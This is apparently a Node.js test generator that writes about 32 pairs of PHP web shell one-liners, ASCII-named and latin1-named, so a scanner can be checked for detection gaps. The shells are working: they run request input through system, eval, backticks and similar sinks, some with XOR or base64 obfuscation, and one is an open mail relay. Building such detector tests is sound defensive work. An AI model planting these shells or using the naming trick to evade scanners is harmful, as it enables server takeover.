#!/usr/bin/env node
// Writes pairs of small PHP shells, each with ASCII names (a_*.php) and the same with names of bytes
// past ASCII (h_*.php), into DIR. Run each with php and scan both: a pair where the ASCII one is
// flagged and the other is clean is a gap in S18-2.  Usage: node names.mjs DIR
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
const dir = process.argv[2] ?? '.';
const H = '\xe9'; // é in latin1 (one byte); PHP takes any byte 0x80-0xff in a name
const cases = {
  varvar: (n) => `<?php $${n}='_GET'; system(\${$${n}}['c']);`,
  varvar2: (n) => `<?php $${n}='_GET'; $x=$$${n}; system($x['c']);`,
  bracevar: (n) => `<?php \${'${n}'}=$_GET['c']; system(\${'${n}'});`,
  varfunc: (n) => `<?php $${n}=$_GET['f']; $${n}($_GET['c']);`,
  evalvarcall: (n) => `<?php $${n}='base64_decode'; eval($${n}($_POST['x']));`,
  sinkvar: (n) => `<?php $${n}='sys'.'tem'; $${n}($_GET['c']);`,
  method: (n) => `<?php class ${n}A{ static function ${n}($x){ system($x); } } ${n}A::${n}($_GET['c']);`,
  objmethod: (n) => `<?php class ${n}B{ function ${n}r($x){ passthru($x); } } (new ${n}B)->${n}r($_GET['c']);`,
  constname: (n) => `<?php const ${n}K='system'; (${n}K)($_GET['c']);`,
  defconst: (n) => `<?php define('${n}D','system'); constant('${n}D')($_GET['c']);`,
  closure: (n) => `<?php $${n}f=function($${n}){ system($${n}); }; $${n}f($_GET['c']);`,
  arrow: (n) => `<?php $${n}f=fn($${n})=>system($${n}); $${n}f($_GET['c']);`,
  foreach: (n) => `<?php foreach($_GET as $k=>$${n}){ if($k=='c') system($${n}); }`,
  compact: (n) => `<?php $${n}=$_GET['c']; $a=compact('${n}'); system($a['${n}']);`,
  list: (n) => `<?php [$${n}]=[$_GET['c']]; system($${n});`,
  global: (n) => `<?php $${n}=$_GET['c']; function f(){ global $${n}; system($${n}); } f();`,
  interp: (n) => `<?php $${n}=$_GET['c']; system("$${n}");`,
  interp2: (n) => `<?php $${n}=$_GET['c']; system("{$${n}}");`,
  backtick: (n) => `<?php $${n}=$_GET['c']; echo \`$${n}\`;`,
  ref: (n) => `<?php $${n}=&$_GET; system($${n}['c']);`,
  static: (n) => `<?php function ${n}g($x){ static $${n}; $${n}=$x; return system($${n}); } ${n}g($_GET['c']);`,
  namedarg: (n) => `<?php function ${n}h(string $${n}){ return shell_exec($${n}); } echo ${n}h(${n}: $_GET['c']);`,
  callufunc: (n) => `<?php $${n}='system'; call_user_func($${n}, $_GET['c']);`,
  arraymap: (n) => `<?php $${n}='system'; array_map($${n}, [$_GET['c']]);`,
  create: (n) => `<?php $${n}=$_POST['x']; $f=create_function('', $${n});`,
  evalvar: (n) => `<?php $${n}=$_POST['x']; eval($${n});`,
  evalvar2: (n) => `<?php $${n}=base64_decode($_POST['x']); @eval($${n});`,
  extract: (n) => `<?php extract($_GET); $${n}($c);`,
  xor: (n) => `<?php $${n}='';$k='k';$p="\\x18\\x12\\x18\\x1f\\x0e\\x06";for($i=0;$i<6;$i++)$${n}.=$p[$i]^$k;$${n}($_GET['c']);`,
  mailer: (n) => `<?php $${n}=$_POST['to']; mail($${n}, $_POST['s'], $_POST['b']);`,
  varvarcall: (n) => `<?php $f='system'; $${n}='f'; $$${n}($_GET['c']);`,
  superglobal: (n) => `<?php $${n}='_GET'; $${n}2=$GLOBALS[$${n}]; system($${n}2['c']);`,
};
for (const [k, f] of Object.entries(cases)) {
  writeFileSync(join(dir, `a_${k}.php`), Buffer.from(f('zq'), 'latin1'));
  writeFileSync(join(dir, `h_${k}.php`), Buffer.from(f(H + 'q'), 'latin1'));
}
